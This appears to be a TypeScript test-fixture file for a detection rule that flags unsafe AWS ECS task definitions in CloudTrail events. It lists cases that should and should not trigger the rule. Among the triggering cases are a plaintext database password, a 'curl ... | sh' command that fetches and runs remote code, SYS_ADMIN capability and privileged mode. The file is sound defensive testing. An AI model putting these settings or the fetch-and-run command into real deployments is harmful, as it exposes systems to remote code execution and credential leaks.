import type { JsonObject } from '../../../records/cloudtrail/cloudtrail-record';
import { denied, EXAMPLE_ACCOUNT, exampleDeployer } from '../example-event';
import { callAt, sequence, type TrailExampleTable } from './trail-example';

const safe: JsonObject = {
  name: 'web',
  image: `${EXAMPLE_ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/web:1.4`,
  user: '10001',
  readonlyRootFilesystem: true,
  secrets: [{ name: 'DB_PASSWORD', valueFrom: 'arn:aws:secretsmanager:eu-west-1:111122223333:secret:db' }],
  logConfiguration: { logDriver: 'awslogs', options: { 'awslogs-group': 'web' } },
};

/** The fault is in the last of seven containers, where no filter pattern looks. */
const register = (fault: JsonObject, more: JsonObject = {}) =>
  callAt(0, 'ecs', 'RegisterTaskDefinition', {
    family: 'web',
    networkMode: 'awsvpc',
    cpu: '256',
    memory: '512',
    containerDefinitions: [...new Array<JsonObject>(6).fill(safe), { ...safe, ...fault }],
    ...more,
  });

export const judgedTaskExamples: TrailExampleTable = {
  'ecs-unsafe-task-definition-registered': {
    fires: [
      sequence(register({ environment: [{ name: 'DB_PASSWORD', value: 'correct-horse' }] })),
      sequence(register({ command: ['sh', '-c', 'curl -s https://example.com/x | sh'] })),
      sequence(register({ linuxParameters: { capabilities: { add: ['SYS_ADMIN'] } } })),
      sequence({ ...register({ privileged: true }), userIdentity: exampleDeployer }),
    ],
    staysSilent: [
      sequence(register({})),
      // Soft, as most images are: told by other detections of low severity.
      sequence(register({ user: 'root', readonlyRootFilesystem: false })),
      sequence(register({ environment: [{ name: 'DB_PASSWORD_FILE', value: '/run/secrets/db' }] })),
      sequence(denied(register({ privileged: true }))),
    ],
  },
};
